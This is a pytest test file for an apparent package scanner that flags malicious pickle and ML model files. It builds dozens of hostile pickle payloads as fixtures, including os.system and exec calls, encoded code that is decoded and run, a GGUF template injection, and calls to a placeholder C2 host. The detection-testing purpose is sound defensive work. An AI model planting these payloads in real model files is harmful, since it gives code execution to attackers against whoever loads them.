"""Pickles and models: what they call is found in every form in which a loader reads them, and data are left alone."""

import base64
import marshal
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.errors import LimitExceeded
from pratique.facts.scan.engine import Look, look
from pratique.facts.severity import worst
from pratique.model import limits
from pratique.model.evidence import Alarm
from tests.facts.languages.pickle_writer import (
    BUILD,
    MARK,
    NEWOBJ,
    NONE,
    NUMBERS,
    OBJECTS,
    PACKERS,
    array,
    call,
    joblib_array,
    name,
    octets,
    stack_name,
    tarred,
    text,
    torch_legacy,
    torch_zip,
    tuple_of,
    whole,
    zipped,
)


def looked(path: str, data: bytes) -> Look:
    return look("demo-1.0-py3-none-any.whl", [Member(path, len(data), lambda: data)])


SHELL = call(name("os", "system"), text("echo pickled"))
CODE = "import os\nos.system('echo pickled')\n"
RUN = call(name("builtins", "exec"), text(CODE))
ENCODED = base64.b64encode(zlib.compress(CODE.encode())).decode()
LAMBDA = base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('echo')", "m", "eval"))).decode()
HARMLESS_LAMBDA = base64.b64encode(marshal.dumps(compile("lambda x: x * 2.0 + 1.0", "m", "eval"))).decode()


def keras(code: str) -> bytes:
    """The configuration of a model with one layer that is a function."""
    return (
        '{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "scale", '
        f'"function": {{"class_name": "__lambda__", "config": {{"code": "{code}", "defaults": null}}}}}}}}]}}}}'
    ).encode()


MALICIOUS: dict[str, tuple[str, bytes]] = {
    "protocol 0": ("m/a.pkl", whole(SHELL, protocol=0)),
    "protocol 0, with the quoted texts of Python 2": (
        "m/a.pkl",
        whole(b"cposix\nsystem\np0\n(S'echo \\x70ickled'\np1\ntp2\nRp3\n", protocol=0),
    ),
    "protocol 2": ("m/a.pkl", whole(SHELL)),
    "protocol 4, names from the stack": (
        "m/a.pickle",
        whole(call(stack_name("posix", "system"), text("echo")), protocol=4),
    ),
    "protocol 5, in a frame": (
        "m/a.pkl",
        b"\x80\x05\x95" + struct.pack("<Q", len(SHELL) + 1) + SHELL + b".",
    ),
    "names from the memo": (
        "m/a.pkl",
        whole(text("system"), b"\x94", text("posix"), b"\x94", b"h\x01h\x00\x93", text("echo"), b"\x85R", protocol=4),
    ),
    "INST": ("m/a.pkl", whole(b"(", text("echo"), b"ios\nsystem\n", protocol=0)),
    "OBJ": ("m/a.pkl", whole(b"(", name("os", "system"), text("echo"), b"o")),
    "NEWOBJ": ("m/a.pkl", whole(name("subprocess", "Popen"), tuple_of(text("echo")), NEWOBJ)),
    "NEWOBJ_EX": ("m/a.pkl", whole(name("subprocess", "Popen"), tuple_of(text("echo")), b"}", b"\x92", protocol=4)),
    "exec": ("m/a.pkl", whole(RUN)),
    "eval of Python 2": ("m/a.pkl", whole(call(name("__builtin__", "eval"), text("__import__('os').system('echo')")))),
    "a program with its arguments": (
        "m/a.pkl",
        whole(call(name("subprocess", "check_output"), MARK + text("sh") + text("-c") + text("echo pickled") + b"l")),
    ),
    "an encoded text, decoded and run": (
        "m/a.pkl",
        whole(
            call(
                name("builtins", "exec"),
                call(name("zlib", "decompress"), call(name("base64", "b64decode"), text(ENCODED))),
            )
        ),
    ),
    "getattr of a module": (
        "m/a.pkl",
        whole(
            call(
                call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("system")),
                text("echo"),
            )
        ),
    ),
    "import_module": (
        "m/a.pkl",
        whole(
            call(
                call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")),
                text("echo"),
            )
        ),
    ),
    "a name that leads on from a harmless module": (
        "m/a.pkl",
        whole(call(stack_name("torch.serialization", "os.system"), text("echo")), protocol=4),
    ),
    "globals of a harmless function": (
        "m/a.pkl",
        whole(call(stack_name("collections", "namedtuple.__globals__.get"), text("x")), protocol=4),
    ),
    "partial": ("m/a.pkl", whole(call(call(name("functools", "partial"), name("os", "system"), text("echo"))))),
    "partial that nobody calls": (
        "m/a.pkl",
        whole(call(name("functools", "partial"), name("os", "system"), text("echo"))),
    ),
    "map, and a list of what it gives": (
        "m/a.pkl",
        whole(
            call(
                name("builtins", "list"),
                call(name("builtins", "map"), name("os", "system"), MARK + text("echo") + b"l"),
            )
        ),
    ),
    "methodcaller on a module": (
        "m/a.pkl",
        whole(
            call(
                call(name("operator", "methodcaller"), text("system"), text("echo")),
                call(name("importlib", "import_module"), text("os")),
            )
        ),
    ),
    "runpy": ("m/a.pkl", whole(call(name("runpy", "run_path"), text("a.txt")))),
    "webbrowser": ("m/a.pkl", whole(call(name("webbrowser", "open"), text("https://c2.example.invalid/")))),
    "pip": ("m/a.pkl", whole(call(name("pip", "main"), MARK + text("install") + text("demo-look") + b"l"))),
    "a request": ("m/a.pkl", whole(call(name("requests.api", "get"), text("https://c2.example.invalid/")))),
    "urllib of Python 2": ("m/a.pkl", whole(call(name("urllib2", "urlopen"), text("https://c2.example.invalid/")))),
    "a socket": (
        "m/a.pkl",
        whole(call(name("socket", "create_connection"), tuple_of(text("c2.example.invalid"), b"M\xbb\x01"))),
    ),
    "a file opened for writing": ("m/a.pkl", whole(call(name("io", "open"), text("a.pth"), text("w")))),
    "a path that writes": ("m/a.pkl", whole(call(stack_name("pathlib", "Path.write_text"), text("x")), protocol=4)),
    "a debugger": ("m/a.pkl", whole(call(name("pdb", "run"), text(CODE)))),
    "a profiler": ("m/a.pkl", whole(call(name("cProfile", "run"), text(CODE)))),
    "a timer": ("m/a.pkl", whole(call(name("timeit", "timeit"), text(CODE)))),
    "NumPy's own test runner": (
        "m/a.pkl",
        whole(call(name("numpy.testing._private.utils", "runstring"), text(CODE), b"}")),
    ),
    "a C library": ("m/a.pkl", whole(call(name("ctypes", "CDLL"), text("./a.so")))),
    "a pager that starts a program": ("m/a.pkl", whole(call(name("pydoc", "pipepager"), text("x"), text("echo")))),
    "the hub of PyTorch": ("m/a.pkl", whole(call(name("torch.hub", "load"), text("c2.example.invalid/x")))),
    "a pickle in a pickle": ("m/a.pkl", whole(call(name("pickle", "loads"), octets(whole(SHELL))))),
    "a pickle among bytes that look like data": ("m/a.pkl", whole(b"}", text("weights"), octets(whole(SHELL)), b"s")),
    "a model in a storage": (
        "m/a.pkl",
        whole(call(name("torch.storage", "_load_from_bytes"), octets(torch_legacy(whole(SHELL))))),
    ),
    "a function by value that is called": (
        "m/a.pkl",
        whole(call(call(name("types", "FunctionType"), call(name("types", "CodeType"), octets(b"\x97\0")), b"}"))),
    ),
    "a class that gets other attributes": (
        "m/a.pkl",
        whole(name("logging", "Logger"), b"}", text("warn"), name("os", "system"), b"s", BUILD),
    ),
    "a name that is put together": (
        "m/a.pkl",
        whole(
            call(
                text("posix")
                + call(name("builtins", "str.join"), text(""), MARK + text("sys") + text("tem") + b"l")
                + b"\x93",
                text("echo"),
            ),
            protocol=4,
        ),
    ),
    "behind much that is harmless": (
        "m/a.pkl",
        whole(MARK, b"".join(b"J" + struct.pack("<i", each) for each in range(5_000)), b"l", b"0", SHELL),
    ),
    "the second of two pickles": ("m/a.pkl", whole(b"K\x01") + whole(SHELL)),
    "broken off behind the call": ("m/a.pkl", whole(SHELL)[:-1] + b"\xff"),
    "PyTorch's zip": ("m/a.pt", torch_zip(whole(SHELL))),
    "PyTorch's zip under the suffix of start-up files": ("m/a.pth", torch_zip(whole(SHELL))),
    "PyTorch's zip as a checkpoint": ("m/pytorch_model.bin", torch_zip(whole(RUN))),
    "PyTorch's zip, called a model": ("m/a.model", torch_zip(whole(RUN))),
    "PyTorch's row of pickles": ("m/a.pt", torch_legacy(whole(SHELL))),
    "PyTorch's tar": ("m/a.pt", tarred(("pickle", whole(SHELL)), ("storages", whole(b"K\x00")))),
    "a stream under the suffix of start-up files": ("m/a.pth", whole(SHELL)),
    "a stream in a file of some data": ("m/a.dat", whole(SHELL)),
    "a zip with a directory that is broken": ("m/a.pt", torch_zip(whole(SHELL)).replace(b"PK\x01\x02", b"PK\x01\x09")),
    "a zip with a wrong checksum": ("m/a.pt", torch_zip(whole(SHELL)).replace(b"echo", b"echx", 1)),
    "7z, stored": ("m/a.pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + whole(SHELL) + bytes(40)),
    "objects in an array": ("m/a.npy", array(OBJECTS, whole(SHELL))),
    "objects in a record of an array": (
        "m/a.npy",
        array("{'descr': [('a', '<i4'), ('b', '|O')], 'shape': (1,), }", whole(SHELL)),
    ),
    "objects in one of several arrays": (
        "m/a.npz",
        zipped(("a.npy", array(NUMBERS, bytes(32))), ("b.npy", array(OBJECTS, whole(SHELL)))),
    ),
    "behind the numbers of joblib": ("m/a.joblib", whole(MARK, joblib_array(9, SHELL), b"l")),
    "in an array of objects of joblib": ("m/a.joblib", whole(joblib_array(0, whole(SHELL), kind="O8", aligned=False))),
    "a layer of Keras": ("m/a.keras", zipped(("metadata.json", b"{}"), ("config.json", keras(LAMBDA)))),
    "a layer of Keras in HDF5": ("m/a.h5", b"\x89HDF\r\n\x1a\n" + bytes(40) + keras(LAMBDA) + bytes(40)),
    "a template in GGUF": ("m/a.gguf", b"GGUF\x03\0\0\0{{ cycler.__init__.__globals__.os.popen('echo') }}"),
    **{f"packed with {kind}": ("m/a.joblib", pack(whole(SHELL))) for kind, pack in PACKERS.items()},
}


@pytest.mark.parametrize("way", MALICIOUS)
def test_what_acts_while_it_is_loaded_is_malicious(way: str) -> None:
    scan = looked(*MALICIOUS[way]).report()
    assert worst(scan) is Alarm.MALICIOUS
    assert "deserialisation-call" in {finding.rule for finding in scan.findings}


SUSPICIOUS: dict[str, tuple[str, bytes]] = {
    "broken off behind a harmless call": ("m/a.pkl", whole(call(name("collections", "OrderedDict")))[:-1] + b"\xff"),
    "broken off behind a call of nobody knows what": ("m/a.pkl", whole(call(name("demo.model", "Model")))[:-1]),
    "7z with nothing to be seen in it": ("m/a.pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(64))),
    "RAR": ("m/a.pkl", b"Rar!\x1a\x07\x01\x00" + bytes(64)),
}


@pytest.mark.parametrize("way", SUSPICIOUS)
def test_what_breaks_off_behind_a_call_is_suspicious_and_unread(way: str) -> None:
    scan = looked(*SUSPICIOUS[way]).report()
    assert worst(scan) is Alarm.SUSPICIOUS
    assert scan.coverage.unread_count == 1


UNREADABLE: dict[str, tuple[str, bytes]] = {
    "no pickle": ("m/a.pkl", b"\xfe\xfe\xfe\xfe"),
    "a protocol that there is not": ("m/a.pkl", b"\x80\x09K\x01."),
    "a stream without an end": ("m/a.pkl", b"\x80\x02K\x01"),
    "a zip that cannot be opened": ("m/a.pt", b"PK\x03\x04" + bytes(60)),
    "compressed with LZ4": ("m/a.joblib", b"\x04\x22\x4d\x18" + bytes(60)),
    "compressed wrongly": ("m/a.pkl", b"\x78\x9c" + bytes(60)),
    "too many layers": ("m/a.pkl", zlib.compress(zlib.compress(zlib.compress(zlib.compress(whole(b"K\x01")))))),
    "an array whose header is no literal": ("m/a.npy", array("{'descr': open('a')}", b"")),
    "an array whose header is longer than the file": ("m/a.npy", b"\x93NUMPY\x01\x00\xff\xff{}"),
    "something taken from an empty stack": ("m/a.pkl", b"\x80\x02a."),
    "something taken from an empty place": ("m/a.pkl", b"\x80\x02h\x07."),
    "no mark": ("m/a.pkl", b"\x80\x02t."),
    "a number that is none": ("m/a.pkl", b"\x80\x02gx\n."),
}


@pytest.mark.parametrize("way", UNREADABLE)
def test_what_cannot_be_read_is_unread(way: str) -> None:
    scan = looked(*UNREADABLE[way]).report()
    assert scan.coverage.unread_count == 1
    assert scan.findings == ()


HARMLESS: dict[str, tuple[str, bytes]] = {
    "numbers and texts": ("m/a.pkl", whole(MARK, b"K\x01", text("a"), NONE, b"G" + bytes(8), b"l")),
    "an ordered mapping": ("m/a.pkl", whole(call(name("collections", "OrderedDict"), b"]"))),
    "an array": (
        "m/a.pkl",
        whole(
            call(
                name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), tuple_of(b"K\0"), octets(b"b")
            )
        ),
    ),
    "a tensor": (
        "m/a.pt",
        torch_zip(
            whole(
                call(
                    name("torch._utils", "_rebuild_tensor_v2"),
                    tuple_of(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x10") + b"Q",
                    b"K\0",
                    tuple_of(b"K\x04"),
                    tuple_of(b"K\x01"),
                    b"\x89",
                    call(name("collections", "OrderedDict")),
                )
            )
        ),
    ),
    "a tensor of before": ("m/a.pth", torch_legacy(whole(b"}"))),
    "an estimator": (
        "m/a.joblib",
        whole(name("sklearn.linear_model._base", "LinearRegression"), b")", NEWOBJ, b"}", BUILD),
    ),
    "a class of the package": ("m/a.pkl", whole(name("demo.model", "Model"), b")", NEWOBJ, b"}", BUILD)),
    "a bound method": ("m/a.pkl", whole(call(name("builtins", "getattr"), name("demo.model", "Model"), text("fit")))),
    "a function of NumPy as a value": ("m/a.pkl", whole(name("numpy", "log1p"))),
    "an exception": ("m/a.pkl", whole(call(name("subprocess", "CalledProcessError"), b"K\x01", text("a")))),
    "an array of numbers": ("m/a.npy", array(NUMBERS, bytes(32))),
    "an array of before Python 3": ("m/a.npy", array("{'descr': '<f8', 'shape': (4L,), }", bytes(32))),
    "several arrays": ("m/a.npz", zipped(("a.npy", array(NUMBERS, bytes(32))))),
    "no array at all": ("m/a.npz", zipped()),
    "numbers of joblib in the middle": (
        "m/a.joblib",
        whole(MARK, joblib_array(9), joblib_array(3, aligned=False), b"l"),
    ),
    "a layer of Keras without a function": (
        "m/a.keras",
        zipped(("config.json", b'{"class_name": "Dense", "config": {}}')),
    ),
    "prose": ("m/a.pkl", b"version 1\nThis stands for a file that is kept elsewhere.\n"),
    "prose of wide characters": ("m/a.pt", "<p>a page that is a template</p>".encode("utf-16")),
    "firmware": ("m/a.bin", bytes(range(256)) * 8),
    "firmware that begins as pickles do": ("m/a.bin", b"\x80\x02K\x01" + b"\xfe" * 300),
    "paths for Python": ("m/a.pth", b"/srv/project/src\n"),
    "a template": ("m/a.gguf", b"GGUF\x03\0\0\0{% for m in messages %}{{ m.content }}{% endfor %}"),
    "safetensors": ("m/a.safetensors", struct.pack("<Q", 2) + b"{}"),
}


@pytest.mark.parametrize("way", HARMLESS)
def test_data_are_left_alone(way: str) -> None:
    scan = looked(*HARMLESS[way]).report()
    assert worst(scan) is Alarm.NONE
    assert (scan.findings, scan.coverage.unread_count) == ((), 0)


def test_safetensors_are_no_pickle() -> None:
    scan = looked("m/a.safetensors", struct.pack("<Q", 2) + b"{}").report()
    assert (dict(scan.coverage.read), scan.coverage.other) == ({}, 1)


def test_a_layer_that_is_a_function_is_told_though_it_does_not_act() -> None:
    scan = looked("m/a.keras", zipped(("config.json", keras(HARMLESS_LAMBDA)))).report()
    assert [(finding.rule, finding.severity.name) for finding in scan.findings] == [("deserialisation-call", "MEDIUM")]
    assert worst(scan) is Alarm.NONE


def test_functions_by_value_are_told_and_are_no_alarm() -> None:
    made = call(name("cloudpickle.cloudpickle", "_make_function"), octets(b"\x97\0"))
    scan = looked("m/a.pkl", whole(made)).report()
    assert [finding.severity.name for finding in scan.findings] == ["MEDIUM"]


def test_a_name_that_acts_and_that_nobody_calls_is_odd() -> None:
    scan = looked("m/a.pkl", whole(MARK, name("os", "system"), b"l")).report()
    assert [(finding.severity.name, worst(scan)) for finding in scan.findings] == [("MEDIUM", Alarm.NONE)]


def test_code_and_commands_go_on_to_their_own_views() -> None:
    seen = looked("m/a.pkl", whole(RUN)).files["m/a.pkl"].observations
    assert {(each.label, each.language) for each in seen} >= {
        ("code.exec", "pickle"),
        ("proc.shell", "python"),
        ("code.deserialise_call", "pickle"),
    }
    assert {each.context.value for each in seen} == {"load"}


def test_a_place_is_the_byte_of_the_call_and_the_line_of_a_pickle_that_is_text() -> None:
    found = looked("m/a.pkl", whole(b"cposix\nsystem\np0\n(S'echo'\np1\ntp2\nRp3\n", protocol=0)).report().findings[0]
    assert (found.line, found.message) == (7, "runs when it is loaded: posix.system('echo') at byte 33")


def test_a_row_of_pickles_of_pytorch_ends_where_its_numbers_begin() -> None:
    assert looked("m/a.pt", torch_legacy(whole(b"}"))).report().findings == ()


def test_shared_parts_that_grow_without_end_are_followed_so_far() -> None:
    doubled = b"K\x01" + b"".join(b"q" + bytes([each]) + b"h" + bytes([each]) + b"\x86" for each in range(60))
    assert worst(looked("m/a.pkl", whole(call(name("demo", "f"), doubled))).report()) is Alarm.NONE
    assert worst(looked("m/a.pkl", whole(call(name("os", "system"), doubled))).report()) is Alarm.MALICIOUS


OPCODES = [
    b"(",
    b"t",
    b"l",
    b"d",
    b"0",
    b"1",
    b"2",
    b"N",
    b"K\x05",
    b"]",
    b"}",
    b")",
    b"a",
    b"s",
    b"e",
    b"u",
    b"b",
    b"R",
    b".",
]
MORE = [b"q\x00", b"h\x00", b"\x94", b"\x93", b"o", b"\x81", b"\x92", b"\x85", b"\x86", b"\x87", b"Q", text("system")]
NAMES = [text("os"), name("os", "system"), name("builtins", "getattr"), name("functools", "partial"), octets(b"x")]
PARTS = st.sampled_from([*OPCODES, *MORE, *NAMES])


@settings(max_examples=150, deadline=None)
@given(st.lists(PARTS, max_size=40), st.sampled_from(["a.pkl", "a.pt", "a.bin", "a.pth"]))
def test_any_row_of_opcodes_is_followed_or_unread(parts: list[bytes], path: str) -> None:
    looked(path, whole(*parts))


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=200), st.sampled_from(["a.pkl", "a.npy", "a.npz", "a.h5", "a.joblib", "a.pth", "a.gguf"]))
def test_any_bytes_are_looked_at_or_unread(data: bytes, path: str) -> None:
    for head in (b"", b"\x80\x04", b"\x93NUMPY\x01\x00", b"PK\x03\x04", b"\x78\x9c", b"GGUF", b"\x89HDF\r\n\x1a\n"):
        looked(path, head + data)


def test_a_path_file_that_is_a_pickle_to_others_is_looked_at_as_both() -> None:
    data = b"cos\nsystem\n(S'echo'\ntR.\nimport evil_look\n"
    rules = {finding.rule for finding in looked("a.pth", data).report().findings}
    assert rules >= {"deserialisation-call", "startup-hook"}


def too_large() -> bytes:
    raise LimitExceeded("it has too many bytes")


@pytest.mark.parametrize(("path", "unread"), [("m/a.pkl", 1), ("m/a.pt", 1), ("m/a.dat", 0), ("m/a.npy", 0)])
def test_what_is_too_large_is_unread_if_it_is_certain_to_be_a_pickle(path: str, unread: int) -> None:
    member = Member(path, limits.ARCHIVE_MEMBER_BYTES_MAX + 1, too_large)
    coverage = look("demo-1.0-py3-none-any.whl", [member]).report().coverage
    assert (coverage.unread_count, coverage.other) == (unread, 1 - unread)


def test_bytes_that_spell_something_in_text_say_nothing_in_a_pickle() -> None:
    data = whole(octets("\u202e".encode() * 40 + b"Obfuscated by nobody"))
    assert looked("m/a.pkl", data).report().findings == ()
